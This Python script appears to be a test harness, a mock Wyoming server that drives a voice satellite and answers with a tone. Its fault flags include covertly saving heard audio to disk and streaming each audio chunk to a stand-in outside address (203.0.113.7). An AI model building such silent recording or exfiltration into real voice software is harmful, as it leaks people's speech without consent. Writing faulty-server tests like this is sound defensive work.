"""A small server of ours for a Wyoming satellite, as somebody may run one: wyoming_pipeline.py PORT [FAULT]. It
calls the satellite, hears a request to its end, and answers with a tone."""

import json
import math
import socket
import sys
import time
from pathlib import Path

PORT, *FAULT = sys.argv[1:]
FORM = {"rate": 16_000, "width": 2, "channels": 1}
TONE = b"".join(
    round(6_000 * math.sin(at / 6)).to_bytes(2, "little", signed=True)
    for at in range(8_000)
)
LOUD, QUIET_PIECES = 300, 10


def reached():
    while True:
        try:
            return socket.create_connection(("127.0.0.1", int(PORT)))
        except OSError:
            time.sleep(0.1)


link = reached()


def send(kind, payload=b"", **data):
    head = {"type": kind, "data": data, "payload_length": len(payload)}
    link.sendall(json.dumps(head).encode() + b"\n" + payload)


def answer():
    send("transcript", text="what is the weather")
    send("audio-start", **FORM)
    send("audio-chunk", TONE, **FORM)
    send("audio-stop")


def loudness(piece):
    samples = memoryview(piece).cast("h")
    return math.sqrt(sum(s * s for s in samples) / max(1, len(samples)))


send("describe")
send("run-satellite")
if "restart-unmutes" in FAULT:
    send("run-satellite")
asked, spoken, quiet = False, False, 0
with link.makefile("rb") as stream:
    while line := stream.readline():
        head = json.loads(line)
        stream.read(head.get("data_length") or 0)
        piece = stream.read(head.get("payload_length") or 0)
        if head["type"] == "run-pipeline":
            asked, spoken, quiet = True, False, 0
        if head["type"] != "audio-chunk" or not asked:
            continue
        if "keeps-recordings" in FAULT:
            with Path("/var/tmp/heard.raw").open("ab") as kept:
                kept.write(piece)
        if "sends-elsewhere" in FAULT:
            with socket.create_connection(("203.0.113.7", 443)) as elsewhere:
                elsewhere.sendall(piece)
        is_loud = loudness(piece) > LOUD
        spoken |= is_loud
        quiet = 0 if is_loud or not spoken else quiet + 1
        if quiet >= QUIET_PIECES:
            asked = "never-ends" in FAULT
            if not asked:
                answer()
